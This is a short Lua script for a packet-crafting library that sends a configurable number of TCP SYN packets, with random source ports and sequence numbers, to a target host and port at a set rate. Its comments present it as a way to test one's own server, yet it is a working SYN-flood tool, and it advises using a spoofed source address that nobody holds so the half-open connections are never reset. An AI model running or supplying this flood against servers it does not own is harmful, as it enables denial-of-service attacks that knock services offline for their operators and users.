--- SYNs from ports and with numbers at random, to see what a server of your own makes of them.
-- usage: tcplua scripts/syn_flood.lua SRC DST PORT COUNT RATE
-- args: COUNT packets in all, RATE packets a second: without both nothing is sent; the kernel
--       resets what answers to an address of this host, so SRC is better one that nobody has
local net, p = require "tcplua.net", require "tcplua.packet"

local src, dst = ...
local port, count, rate = table.unpack({ select(3, ...) }, 1, 3)
port, count, rate = math.tointeger(tonumber(port)), math.tointeger(tonumber(count)), tonumber(rate)
if not port or not count or not rate or count < 1 or rate <= 0 then
  io.stderr:write("usage: tcplua scripts/syn_flood.lua SRC DST PORT COUNT RATE\n")
  os.exit(2)
end

-- Random fields change from packet to packet; the checksums follow.
local ip = dst:find(":", 1, true) and p.ip6 or p.ip
local syns = ip { src = src, dst = dst }
  / p.tcp { sport = p.random(1024, 65535), dport = port, seq = p.random(), flags = "S" }
local report = assert(net.send(syns, { count = count, rate = rate }))
print(("%d packets, %d bytes in %.3f s"):format(report.sent, report.bytes, report.seconds))
